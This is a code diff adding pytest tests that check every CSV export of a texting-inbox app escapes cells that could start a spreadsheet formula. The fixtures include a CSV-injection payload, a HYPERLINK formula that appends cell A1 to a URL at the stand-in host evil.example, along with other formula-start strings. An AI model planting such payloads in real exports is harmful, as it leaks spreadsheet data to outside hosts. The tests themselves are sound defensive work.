@@ -6,11 +6,14 @@ import csv
 import io
 import re
 
+import pytest
 from sqlalchemy import select
 
+from inbox.common import audit
 from inbox.extensions import db
-from inbox.models import AuditEvent
+from inbox.models import AuditEvent, OptOutRequest
 from inbox.texting import consent
+from inbox.web.admin.compliance import spreadsheet_safe
 from tests import factories
 from tests.conftest import StaffClient
 
@@ -132,3 +135,60 @@ def test_audit_dates_are_the_practices_local_days(practice, admin_client, admin)
     assert shown("from=2026-11-21&to=2026-11-22") == 1
     assert shown("from=2026-11-22") == 0
     assert shown("from=2026-11-22T04:00:00%2B00:00") == 1  # an explicit offset is taken as given
+
+
+# OWASP's CSV-injection list (a cell starting with = + - @, tab or CR), and what some spreadsheets also
+# read as one: a line feed, and the full-width forms of = + - @.
+FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
+STARTS = tuple(f[0] for f in FORMULAS)
+
+
+@pytest.mark.parametrize("value", FORMULAS, ids=repr)
+def test_a_cell_that_could_start_a_formula_is_kept_as_text(value):
+    assert spreadsheet_safe(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Maria", "", " =1", "1+1", "'=1", 7, None], ids=repr)
+def test_other_cells_are_left_alone(value):
+    assert spreadsheet_safe(value) == value
+
+
+TAB_FORMULA = '\t=HYPERLINK("http://evil.example/?"&A1,"Open")'
+WIDE_FORMULA = '＝HYPERLINK("http://evil.example")'
+# Every CSV the app serves, with the query each test fetch uses.
+EXPORTS = {
+    "/admin/audit.csv": "/admin/audit.csv",
+    "/admin/contacts/<int:contact_id>/consent.csv": "/admin/contacts/{contact_id}/consent.csv",
+    "/admin/safety-alerts.csv": "/admin/safety-alerts.csv",
+}
+
+
+def test_the_export_table_covers_every_csv_of_the_app(app):
+    assert {r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv")} == set(EXPORTS)
+
+
+def test_no_cell_of_any_export_can_start_a_formula(app, practice, inbound, staff_client, admin_client):
+    # An opt-out text that starts with a tab and a formula, confirmed by staff: it is the ledger's evidence.
+    phone = "+14155550142"
+    contact = factories.contact(practice, phone=phone, first_name=WIDE_FORMULA, last_name="")
+    factories.journey(contact)
+    inbound(TAB_FORMULA + " please stop texting me", from_=phone)
+    request_id = db.session.scalar(select(OptOutRequest.id))
+    assert staff_client.post(f"/api/opt-out-requests/{request_id}/confirm", json={}).status_code == 200
+    # A risk text from the same person: the safety record names them.
+    inbound("I want to kill myself tonight", from_=phone)
+    # Someone whose email starts a formula (made by hand: the forms would refuse it) in the audit trail.
+    odd = factories.user(practice, email="\r=1+1@example.com")
+    audit.record("login", odd, user_id=odd.id)
+    db.session.commit()
+    cells = []
+    for path in EXPORTS.values():
+        answer = admin_client.get(path.format(contact_id=contact.id))
+        assert answer.status_code == 200 and answer.mimetype == "text/csv", path
+        cells += [c for row in csv.reader(io.StringIO(answer.get_data(as_text=True))) for c in row]
+    unsafe = [c for c in cells if c.startswith(STARTS)]
+    assert unsafe == [], repr(unsafe)
+    # The hostile values did reach the exports, kept as text.
+    assert "'" + TAB_FORMULA + " please stop texting me" in cells
+    assert "'" + WIDE_FORMULA in cells
+    assert "'\r=1+1@example.com" in cells
